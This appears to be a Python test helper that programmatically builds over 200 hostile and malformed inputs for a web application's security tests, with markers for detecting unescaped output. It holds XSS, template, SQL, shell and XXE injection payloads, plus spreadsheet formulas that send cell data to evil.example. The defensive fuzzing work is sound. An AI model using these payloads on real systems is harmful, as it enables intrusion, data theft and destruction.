"""Hostile and awkward input, built programmatically (well over 200 payloads).

Each payload has a category and an id. Markers make a successful injection
visible in a page without guessing: markup payloads carry a ``data-xss``
attribute (any element with one in a parsed page means markup got through
unescaped), template payloads evaluate to ``54439`` or ``tplhit`` (which their
source text does not contain), and ``javascript:`` links are searched for.

Strings may hold lone surrogates: :func:`tests.security.walk.encode` sends them
as the bytes a broken client would (``%ED%A0%80``). ``bytes`` payloads are sent
as is, for invalid UTF-8.
"""

from __future__ import annotations

from dataclasses import dataclass

#: Text that must never appear in a page: it only exists if a template ran our input.
EVALUATED_MARKERS = ("54439", "tplhit")
#: A spreadsheet treats a cell starting with one of these as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@dataclass(frozen=True)
class Payload:
    category: str
    name: str
    value: str | bytes

    @property
    def id(self) -> str:
        return f"{self.category}:{self.name}"


def _oversized() -> list[Payload]:
    sizes = [255, 256, 2_001, 4_001, 10_001, 100_000, 600_000]
    found = [Payload("oversized", f"ascii-{n}", "x" * n) for n in sizes]
    found += [
        Payload("oversized", "multibyte-2001", "é" * 2_001),
        Payload("oversized", "astral-2001", "😀" * 2_001),
        Payload("oversized", "one-word-5000", "a" * 5_000),
        Payload("oversized", "lines-3000", "line\n" * 3_000),
        Payload("oversized", "combining-4000", "e" + "\u0301" * 4_000),
    ]
    return found


_UNICODE = {
    "rtl-override": "abc\u202edcba\u202c",
    "ltr-rtl-marks": "\u200e\u200fhello\u200f",
    "zero-width": "a\u200bb\u200cc\u200dd\u2060e",
    "bom": "\ufeffanswer",
    "only-zero-width": "\u200b\u200b\u200b",
    "combining": "e\u0301\u0300\u0302 n\u0303",
    "zalgo": "Z\u0336\u0317\u0353a\u0334\u0359l\u0337\u0321g\u0335\u0356o\u0338",
    "nfd": "cafe\u0301",
    "astral-emoji": "Thanks 😀🏳️‍🌈👩🏽‍🦽",
    "astral-math": "𝕏𝔸𝕄ℙ𝕃𝔼",
    "lone-high-surrogate": "a\ud800b",
    "lone-low-surrogate": "a\udfffb",
    "reversed-pair": "\udc00\ud800",
    "surrogate-only": "\ud83d",
    "noncharacter": "\uffff\ufffe",
    "private-use": "\ue000\U000f0000",
    "line-separators": "a\u2028b\u2029c",
    "tags": "flag\U000e0067\U000e0062\U000e007f",
    "fullwidth-script": "＜script＞alert(1)＜/script＞",
    "homoglyph-email": "аdmin@example.org",  # Cyrillic a
    "arabic": "مرحبا بالعالم",
    "cjk": "你好，世界",
    "welsh": "Mae’r gwasanaeth yn dda",
    "replacement": "\ufffd\ufffd",
    "ideographic-space": "\u3000\u3000",
    "nbsp-only": "\u00a0\u00a0",
    "long-grapheme": "👨‍👩‍👧‍👦" * 50,
}


def _unicode() -> list[Payload]:
    return [Payload("unicode", name, value) for name, value in _UNICODE.items()]


def _invalid_utf8() -> list[Payload]:
    raw = {
        "ff-fe": b"\xff\xfe",
        "overlong-slash": b"\xc0\xaf",
        "encoded-surrogate": b"\xed\xa0\x80",
        "truncated": b"abc\xe2\x82",
        "latin1": "café".encode("latin-1"),
        "nul-byte": b"a\x00b",
    }
    return [Payload("invalid-utf8", name, value) for name, value in raw.items()]


def _control() -> list[Payload]:
    codes = [*range(0, 32), 127, *range(0x80, 0xA0)]
    found = [Payload("control", f"U+{c:04X}", f"a{chr(c)}b") for c in codes]
    found += [
        Payload("control", "nul-alone", "\x00"),
        Payload("control", "nul-prefix", "\x00=1+1"),
        Payload("control", "nul-many", "\x00" * 100),
        Payload("control", "escaped-nul-text", "%00"),
        Payload("control", "backslash-zero", "\\0\\x00\\u0000"),
        Payload("control", "crlf-header", "a\r\nSet-Cookie: injected=1"),
        Payload("control", "bell-escape", "\x1b[31mred\x1b[0m\x07"),
    ]
    return found


def _markup() -> list[Payload]:
    html = {
        "script": '<script data-xss="1">alert(1)</script>',
        "img-onerror": '<img src=x onerror=alert(1) data-xss="1">',
        "svg-onload": '<svg data-xss="1" onload=alert(1)>',
        "attr-double": '" data-xss="1" x="',
        "attr-single": "' data-xss='1' x='",
        "attr-unquoted": "x data-xss=1",
        "close-textarea": '</textarea><b data-xss="1">x</b>',
        "close-title": '</title><b data-xss="1">x</b>',
        "close-script": '</script><b data-xss="1">x</b>',
        "close-option": '</option></select><b data-xss="1">x</b>',
        "comment-break": '--><b data-xss="1">x</b><!--',
        "cdata": '<![CDATA[<b data-xss="1">x</b>]]>',
        "iframe": '<iframe data-xss="1" src="javascript:alert(1)"></iframe>',
        "a-javascript": '<a data-xss="1" href="javascript:alert(1)">x</a>',
        "bare-javascript-url": "javascript:alert(document.cookie)",
        "data-url": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "style": '<style data-xss="1">body{display:none}</style>',
        "meta-refresh": '<meta data-xss="1" http-equiv="refresh" content="0;url=//evil">',
        "entity-encoded": "&lt;script&gt;alert(1)&lt;/script&gt;",
        "double-encoded": "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "uppercase": '<SCRIPT DATA-XSS="1">alert(1)</SCRIPT>',
        "nested": '<scr<script data-xss="1">ipt>alert(1)</script>',
        "markdown-link": "[click](javascript:alert(1))",
        "json-breakout": '"}]</script><b data-xss="1">x</b>',
    }
    return [Payload("markup", name, value) for name, value in html.items()]


def _template() -> list[Payload]:
    source = {
        "jinja-expr": "{{ 7*7777 }}",
        "jinja-concat": "{{ 'tpl' ~ 'hit' }}",
        "jinja-stmt": "{% if 1 %}{{ 'tpl' ~ 'hit' }}{% endif %}",
        "jinja-config": "{{ config }}",
        "jinja-globals": "{{ self.__init__.__globals__ }}",
        "jinja-unclosed": "{{ 7*7",
        "jinja-comment": "{# hidden #}",
        "jinja-raw": "{% raw %}{{ x }}{% endraw %}",
        "dollar": "${7*7777}",
        "hash": "#{7*7777}",
        "erb": "<%= 7*7777 %>",
        "format-string": "{0.__class__} %s %n %x",
        "python-format": "{answer!r:>{width}}",
    }
    return [Payload("template", name, value) for name, value in source.items()]


def _sql() -> list[Payload]:
    fragments = {
        "or-true": "' OR '1'='1",
        "drop": "'; DROP TABLE response; --",
        "double-quote": '" OR 1=1 --',
        "union": "' UNION SELECT email, password_hash FROM user_account --",
        "sleep": "1; SELECT pg_sleep(5); --",
        "sqlite-sleep": "' AND randomblob(1000000000) --",
        "like": "%' --",
        "backslash": "\\'; --",
        "comment": "/* */ OR /**/ 1=1",
        "stacked": "1); DELETE FROM answer; --",
        "numeric": "1 OR 1=1",
        "null-keyword": "NULL",
        "json-path": "' || answers->>'x' || '",
    }
    return [Payload("sql", name, value) for name, value in fragments.items()]


def _formula() -> list[Payload]:
    cells = {
        "cmd": "=cmd|' /C calc'!A0",
        "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "plus": "+1+1",
        "minus": "-2+3+cmd|' /C calc'!A0",
        "at": "@SUM(1+1)*cmd|' /C calc'!A0",
        "tab": "\t=1+1",
        "cr": "\r=1+1",
        "equals": "=1+1",
        "dde": '=DDE("cmd";"/C calc";"!A0")',
        "importxml": '=IMPORTXML(CONCAT("http://evil.example/?", A1), "//a")',
        "leading-space": " =1+1",
        "quote-prefixed": "'=1+1",
    }
    return [Payload("formula", name, value) for name, value in cells.items()]


def _odd() -> list[Payload]:
    values = {
        "empty": "",
        "spaces": "     ",
        "newlines": "\n\n\n",
        "tabs": "\t\t",
        "path-traversal": "../../../../etc/passwd",
        "windows-path": "..\\..\\windows\\win.ini",
        "url": "http://evil.example/phish",
        "protocol-relative": "//evil.example",
        "email-like": "a@b",
        "long-email": "a" * 250 + "@example.org",
        "negative": "-1",
        "huge-number": "1e309",
        "nan": "NaN",
        "hex": "0x41",
        "json": '{"answer": "agree", "__proto__": {}}',
        "array": "answer[]=a&answer[]=b",
        "xml": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
        "ldap": "*)(uid=*))(|(uid=*",
        "shell": "$(touch /tmp/pwned); `id`",
        "yaml": "!!python/object/apply:os.system ['id']",
        "csv-injection-quote": 'a","b","=1+1',
        "resume-code-ish": "K7PM-Q9XD",
        "date-ish": "31/02/2026",
        "bool-ish": "true",
        "option-code": "agree",
        "unicode-digits": "٣٤٥",
    }
    return [Payload("odd", name, value) for name, value in values.items()]


def all_payloads() -> list[Payload]:
    return [
        *_oversized(),
        *_unicode(),
        *_invalid_utf8(),
        *_control(),
        *_markup(),
        *_template(),
        *_sql(),
        *_formula(),
        *_odd(),
    ]


def one_per_category(per_category: int = 4) -> list[Payload]:
    """A small, varied sample for the costlier paths (URL arguments, choices)."""
    seen: dict[str, list[Payload]] = {}
    for p in all_payloads():
        seen.setdefault(p.category, []).append(p)
    return [
        p
        for group in seen.values()
        for p in group[:: max(1, len(group) // per_category)][:per_category]
    ]


def is_formula_cell(cell: str) -> bool:
    """Would a spreadsheet evaluate this cell? Plain numbers ("-1.5", "-3%") are fine."""
    if not cell or not cell.startswith(FORMULA_STARTS):
        return False
    try:
        float(cell.rstrip("%"))
    except ValueError:
        return True
    return False
